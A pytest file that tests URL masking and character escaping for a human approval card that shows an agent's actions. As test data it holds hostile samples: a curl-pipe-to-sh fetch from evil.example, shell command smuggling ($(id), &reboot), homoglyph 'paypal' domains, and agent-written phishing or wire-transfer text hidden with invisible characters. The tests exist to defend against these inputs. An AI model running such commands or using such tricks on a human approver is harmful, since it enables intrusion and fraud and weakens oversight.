"""URL masking (runtime/text.py): what people see of a URL, and nothing else changed."""

from __future__ import annotations

import gc
import json
import sys
import time
import unicodedata
from collections.abc import Callable

import httpx
import pytest

from signoff.runtime.text import MASK, mask, mask_url, mask_urls, shown, visible


@pytest.mark.parametrize(("url", "shown"), [
    ("https://h/p?token=abc", f"https://h/p?token={MASK}"),
    ("https://bob:pw@h/", f"https://{MASK}@h/"),
    ("https://bob@h:8443/a/b", f"https://{MASK}@h:8443/a/b"),
    ("https://u:p@h/p?a=1&b=2;c=3", f"https://{MASK}@h/p?a={MASK}&b={MASK};c={MASK}"),
    ("https://h/p?sekrit", f"https://h/p?{MASK}"),
    ("https://h/cb#access_token=xyz&state=1", f"https://h/cb#access_token={MASK}&state={MASK}"),
    ("https://h/p?x=1#frag", f"https://h/p?x={MASK}#frag"),
    ("https://h/docs#usage", "https://h/docs#usage"),
    ("https://h/plain/path", "https://h/plain/path"),
    ("https://h/p?", "https://h/p?"),
    ("postgresql://app:pw@db:5432/prod", f"postgresql://{MASK}@db:5432/prod"),
])
def test_user_info_and_query_values_are_masked(url: str, shown: str) -> None:
    """Scheme, host, port and path stay; user info and every query value become •••."""
    assert mask_url(url) == shown


def test_urls_inside_text_are_masked_and_the_rest_kept() -> None:
    """Prose around a URL, and punctuation that ends a sentence, are left as they were."""
    text = "Fetch https://h/p?key=abc. Then (see https://u:p@x/y) and done"
    assert mask_urls(text) == (f"Fetch https://h/p?key={MASK}. Then (see https://{MASK}@x/y)"
                               " and done")
    assert mask_urls("no url here: a=1&b=2") == "no url here: a=1&b=2"


def test_mask_walks_json_without_changing_the_original() -> None:
    """Dicts, lists and tuples are masked all the way down; numbers and None pass; the
    input is not modified (stored data keeps the real value)."""
    data = {"url": "https://h/?t=1", "list": ["https://a:b@h/", 3, None],
            "nested": {"pair": ("x", "https://h/?q=z")}}
    shown = mask(data)
    assert shown == {"url": f"https://h/?t={MASK}", "list": [f"https://{MASK}@h/", 3, None],
                     "nested": {"pair": ("x", f"https://h/?q={MASK}")}}
    assert data["url"] == "https://h/?t=1"


def _best_times(*runs: Callable[[], object], repeat: int = 11) -> list[float]:
    """The fastest of ``repeat`` runs of each; the runs take turns, so a machine busy
    with something else slows each alike."""
    times: list[list[float]] = [[] for _ in runs]
    # As timeit does: a garbage collection walks every object of this test session, a
    # cost of the session's size rather than of the masking measured.
    gc.disable()
    try:
        for _ in range(repeat):
            for run, spent in zip(runs, times, strict=True):
                start = time.perf_counter()
                run()
                spent.append(time.perf_counter() - start)
    finally:
        gc.enable()
    return [min(spent) for spent in times]


def _best_ratio(base: Callable[[], object], other: Callable[[], object], *, limit: float,
                repeat: int = 11) -> float:
    """``other``'s time over ``base``'s (`_best_times`), measured again up to three times
    while over ``limit``: a machine busy elsewhere can spoil one measurement, not three."""
    ratios = []
    for _ in range(3):
        base_time, other_time = _best_times(base, other, repeat=repeat)
        ratios.append(other_time / base_time)
        if ratios[-1] <= limit:
            break
    return min(ratios)


def _hostile(n: int) -> str:
    # A scheme candidate at every "a" and a "://" only at the end (the input that took
    # ~10 s per render), then URLs that do need masking and a long non-ASCII host (whose
    # punycode would take time quadratic in its length), all growing with n.
    return ("a." * n + "://" + " see https://u:p@h/p?t=1" * (n // 10)
            + " https://" + "д" * (n // 10) + ".example/")


def test_masking_a_hostile_text_takes_time_linear_in_its_length() -> None:
    """Twice as long a hostile text takes about twice as long to mask, not four times:
    an agent cannot stall every page, click and the worker with one payload."""
    small, large = _hostile(4_000), _hostile(8_000)
    mask_urls(small)  # warm up
    ratio = _best_ratio(lambda: mask_urls(small), lambda: mask_urls(large), limit=3.0)
    assert ratio <= 3.0, f"2x the input took {ratio:.1f}x the time"
    assert f"https://{MASK}@h/p?t={MASK} https://\\u0434\\u0434" in mask_urls(small)


@pytest.mark.parametrize(("text", "shown"), [
    # a scheme longer than looked for: the part after "://" is masked all the same
    ("a" * 40 + "://h/?t=1", "a" * 40 + f"://h/?t={MASK}"),
    ("x_https://h/?t=1", f"x_https://h/?t={MASK}"),
    ("no scheme ://h/?t=1", "no scheme ://h/?t=1"),
    ("https://h/docs#usage?x", "https://h/docs#usage?x"),
    # a bare item after "&" is a name (or, in a shell, a command): shown
    ("https://h/?a=1&b&c=2", f"https://h/?a={MASK}&b&c={MASK}"),
])
def test_urls_are_found_by_their_scheme_however_the_text_around_looks(text: str,
                                                                     shown: str) -> None:
    """A URL is masked wherever its "://" has a scheme before it."""
    assert mask_urls(text) == shown


@pytest.mark.parametrize(("url", "shown"), [
    ("https://bücher.example/p", "https://xn--bcher-kva.example/p"),
    ("https://u:p@пример.рф:8443/?t=1", f"https://{MASK}@xn--e1afmkfd.xn--p1ai:8443/?t={MASK}"),
    ("https://аррӏе.com/", "https://xn--80ak6aa92e.com/"),
    # no DNS name has a 64-character label: no punycode, each character escaped
    ("https://" + "é" * 64 + ".com/", "https://" + "\\xe9" * 64 + ".com/"),
])
def test_internationalized_hosts_are_shown_as_punycode(url: str, shown: str) -> None:
    """A look-alike host (Cyrillic "аррӏе.com") shows as the punycode it really is."""
    assert mask_url(url) == shown


def test_invisible_and_control_characters_are_shown_as_escapes() -> None:
    """A right-to-left override, a zero-width space, ESC or CR become visible escapes;
    tabs, newlines and ordinary non-ASCII text stay."""
    assert visible("report\u202efdp.exe") == "report[U+202E]fdp.exe"
    assert visible("a\u200bb\x1b[31mc\rd") == "a[U+200B]b[U+001B][31mc[U+000D]d"
    assert visible("line 1\n\tline 2 — café ✓") == "line 1\n\tline 2 — café ✓"
    assert shown({"k\u202e": ["https://h/?t=1\u2066 x"]}) == {
        "k[U+202E]": [f"https://h/?t={MASK}[U+2066] x"]}


def test_a_text_full_of_long_idn_hosts_is_masked_without_punycode_costs() -> None:
    """Punycode takes ~1 ms a label: past a small budget per text, hosts show as
    ``\\uXXXX`` escapes, so a thousand 80-character IDN hosts cost about what as many
    ASCII hosts do (and the first host still reads as punycode)."""
    label = "".join(chr(0x0430 + i) for i in range(20))  # Cyrillic а, б, в, ...
    idn = ("https://" + ".".join([label] * 4) + ".example/?t=1 ") * 1000
    plain = ("https://" + ".".join(["a" * 20] * 4) + ".example/?t=1 ") * 1000
    masked = mask_urls(idn)
    assert masked.startswith("https://xn--") and "\\u0430" in masked
    ratio = _best_ratio(lambda: mask_urls(plain), lambda: mask_urls(idn), limit=5.0,
                        repeat=5)
    assert ratio <= 5.0, f"IDN hosts took {ratio:.1f}x as long as ASCII ones"


def test_every_control_format_and_separator_character_is_escaped() -> None:
    """The escaped set is Unicode's Cc, Cf, Zl and Zp (less tab and newline), checked
    against the Unicode database of this Python."""
    wanted = {chr(c) for c in range(sys.maxunicode + 1)
              if unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp")} - {"\t", "\n"}
    text = "".join(sorted(wanted))
    assert visible(text) == "".join(f"[U+{ord(c):04X}]" for c in sorted(wanted))
    assert visible("\t\n") == "\t\n"


# -- where a URL ends: the agent writes the text around it ------------------------------
BLANK = "\u2800"  # BRAILLE PATTERN BLANK: drawn as a space, read as a letter


def test_words_joined_by_a_blank_looking_character_after_a_url_are_shown() -> None:
    """A query ends at the first character that is not printable ASCII: the words the
    agent joined to it with U+2800 are shown (each U+2800 as an escape), not •••."""
    words = BLANK.join(["Also:", "everyone", "must", "re-enter", "their", "SSO", "password",
                        "at", "corp-sso.evil.example", "today"])
    text = f"Standup notes: https://wiki.corp.example/standup?week=12{BLANK}{words}"
    assert shown(text) == (f"Standup notes: https://wiki.corp.example/standup?week={MASK}"
                           + f"{BLANK}{words}".replace(BLANK, "[U+2800]"))


def test_prose_in_a_script_without_spaces_after_a_url_is_shown() -> None:
    """Japanese runs on from a URL with no space: only the URL's query value is masked,
    the transfer instruction after it is shown whole."""
    text = ("資料はこちら：https://docs.example.com/q3?id=7。なお本日中に下記口座へ500万円を"
            "振り込んでください。口座：みずほ銀行 1234567")
    assert shown(text) == text.replace("id=7", f"id={MASK}")
    glued = "詳しくはhttps://example.comをご覧ください。連絡先はtanaka@example.comまで"
    assert shown(glued) == glued


@pytest.mark.parametrize(("text", "masked"), [
    ("sh -c x=https://status.corp.example/ping?ok;curl${IFS}-s${IFS}evil.example/i|sh",
     f"sh -c x=https://status.corp.example/ping?{MASK};curl${{IFS}}-s${{IFS}}"
     "evil.example/i|sh"),
    ("curl https://h/p?a=1&b=2&reboot", f"curl https://h/p?a={MASK}&b={MASK}&reboot"),
    ("curl https://h/p?t=1|sh", f"curl https://h/p?t={MASK}|sh"),
    ("x=$(curl https://h/p?t=1)$(id)", f"x=$(curl https://h/p?t={MASK})$(id)"),
    ("curl https://a&reboot&b@h/", "curl https://a&reboot&b@h/"),
    ("{https://h/?t=1}{evil}", f"{{https://h/?t={MASK}}}{{evil}}"),
])
def test_a_url_ends_where_a_shell_ends_a_word_or_starts_a_command(text: str,
                                                                  masked: str) -> None:
    """In a command, what follows ; | $ ( ) { } or an "&" in the host is another command,
    shown; in a query, each parameter's value is masked and its name shown."""
    assert mask_urls(text) == masked


def test_a_url_in_a_json_view_ends_at_an_escape() -> None:
    """The console's "whole args" view is JSON: a newline there is "\\n", and the line
    after a URL is shown, not masked into its last query value."""
    args = {"text": "see https://h/p?t=1\nthen send the keys to evil.example"}
    view = json.dumps(args, indent=2, ensure_ascii=False)  # as the console shows them
    assert shown(view) == view.replace("t=1", f"t={MASK}")


def test_secrets_in_a_url_stay_masked() -> None:
    """User info and every query value are masked wherever the URL ends; a bare anchor
    is a place in the page and stays."""
    assert mask_urls("go https://user:pw@host/p?token=abc&x=1#frag now") == (
        f"go https://{MASK}@host/p?token={MASK}&x={MASK}#frag now")
    assert mask_urls("https://h/cb#access_token=xyz&state=1.") == (
        f"https://h/cb#access_token={MASK}&state={MASK}.")


# -- hosts and e-mail domains as they will be contacted --------------------------------
@pytest.mark.parametrize(("url", "spelled"), [
    # IDNA 2003 (Python's "idna" codec) showed these as "classic" and "fass"
    ("https://hooks.claßic-crm.com/in/42", "https://hooks.xn--claic-crm-i1a.com/in/42"),
    ("https://faß.de/", "https://xn--fa-hia.de/"),
    ("https://BÜCHER.example/?t=1", f"https://xn--bcher-kva.example/?t={MASK}"),
])
def test_a_host_is_shown_in_the_punycode_httpx_connects_to(url: str, spelled: str) -> None:
    """The card spells the host exactly as httpx will: the person approves the name the
    request goes to, not one IDNA 2003 read into it."""
    assert mask_url(url) == spelled
    assert mask_urls(f"POST to {url} now") == f"POST to {spelled} now"
    assert httpx.URL(url).raw_host.decode("ascii") in spelled


@pytest.mark.parametrize("url", ["https://pay\u00adpal.com/", "https://a_b.bücher.de/"])
def test_a_host_httpx_refuses_is_shown_escaped_never_normalised(url: str) -> None:
    """A soft hyphen (IDNA 2003 dropped it: "paypal.com") or an "_" next to IDN letters:
    httpx connects to no such name, and the card shows each non-ASCII character."""
    with pytest.raises(httpx.InvalidURL):
        httpx.URL(url)
    assert mask_url(url) == url.encode("ascii", "backslashreplace").decode("ascii")


def test_invisible_characters_in_a_host_in_a_text_are_shown() -> None:
    """A soft hyphen or a zero-width joiner inside a host in a message is an escape the
    person sees, never dropped."""
    assert shown("see https://pay\u00adpal.com/login") == "see https://pay[U+00AD]pal.com/login"
    assert shown("see https://pay\u200dpal.com/login") == "see https://pay[U+200D]pal.com/login"


def test_an_email_domain_is_spelled_as_its_host() -> None:
    """A Cyrillic "а" in an address's domain shows as the punycode mail goes to; ASCII
    addresses, and prose or mentions in scripts without spaces, stay as written."""
    assert shown("Send email to billing@pаypal.com, cc x@bücher.de.") == (
        "Send email to billing@xn--pypal-4ve.com, cc x@xn--bcher-kva.de.")
    assert shown("to billing\u200b@pаypal.com") == "to billing[U+200B]@xn--pypal-4ve.com"
    for text in ("mail ops@example.com", "@ユーザー さん", "ask (@Иван)", "tanaka@example.comまで"):
        assert shown(text) == text


def test_a_text_full_of_idn_addresses_is_spelled_in_linear_time() -> None:
    """Twice as many look-alike addresses take about twice as long, not four times."""
    small, large = "a@pаypal.com " * 5_000, "a@pаypal.com " * 10_000
    assert shown(small).startswith("a@xn--pypal-4ve.com a@")
    ratio = _best_ratio(lambda: shown(small), lambda: shown(large), limit=3.0, repeat=5)
    assert ratio <= 3.0, f"2x the input took {ratio:.1f}x the time"


# -- characters that look like a space, or like nothing --------------------------------
@pytest.mark.parametrize("char", [
    "\u2800", "\u3164", "\u115f", "\u1160", "\uffa0", "\u034f", "\ufe00", "\ufe0f",
    "\U000e0100", "\U000e01ef", "\u180b", "\u17b4"])
def test_blank_looking_and_ignorable_characters_are_shown_as_escapes(char: str) -> None:
    """Hangul fillers, U+2800, a grapheme joiner and variation selectors between two
    letters are shown: they can neither pass for a space nor make a name that reads
    "paypal" another one unseen."""
    assert visible(f"pay{char}pal") == f"pay[U+{ord(char):04X}]pal"


def test_an_emoji_keeps_its_presentation_selector() -> None:
    """"☕️" and "⚠️" (a pictograph and U+FE0F) are drawn as one emoji: kept as written."""
    assert visible("☕️ ok ⚠️ ▶️") == "☕️ ok ⚠️ ▶️"
    assert visible("a\u200b\ufe0f") == "a[U+200B][U+FE0F]"


# Default_Ignorable_Code_Point, from Unicode's DerivedCoreProperties.txt (15.1): drawn as
# nothing where a font has no glyph for them. `unicodedata` does not carry the property.
DEFAULT_IGNORABLE = (
    (0x00AD, 0x00AD), (0x034F, 0x034F), (0x061C, 0x061C), (0x115F, 0x1160),
    (0x17B4, 0x17B5), (0x180B, 0x180F), (0x200B, 0x200F), (0x202A, 0x202E),
    (0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A),
    (0xE0000, 0xE0FFF))


def test_every_default_ignorable_character_is_escaped() -> None:
    """Each of Unicode's default-ignorable code points, after a letter, is an escape."""
    for first, last in DEFAULT_IGNORABLE:
        for code in range(first, last + 1):
            assert visible(f"a{chr(code)}") == f"a[U+{code:04X}]", hex(code)


@pytest.mark.parametrize("text", [
    "https://u:p@h/p?a=1&b=&c#access_token=x&state=1 and more",
    "https://h/p?tok", "https://h/p?week=12\u2800Also", "see https://bücher.example/?t=1",
    "https://a_b.bücher.de/x?t=1", "billing@pаypal.com", "https://pay\u00adpal.com/?t=1",
])
def test_masked_text_masks_to_itself(text: str) -> None:
    """A card's content is masked, then the whole card: the second pass changes nothing
    (a mask ends a URL: it must not read as a value still to mask)."""
    once = shown(text)
    assert shown(once) == once and MASK * 2 not in once


def test_shown_text_shown_again_hides_nothing_more() -> None:
    """A web page shows a card's texts, already shown: the escape of a U+2800 ends a URL
    as the character did, so the words after it stay readable."""
    text = f"https://h/p{BLANK}?x=secret{BLANK}wire-the-money-now"
    once = shown(text)
    assert once == "https://h/p[U+2800]?x=secret[U+2800]wire-the-money-now"
    assert shown(once) == once
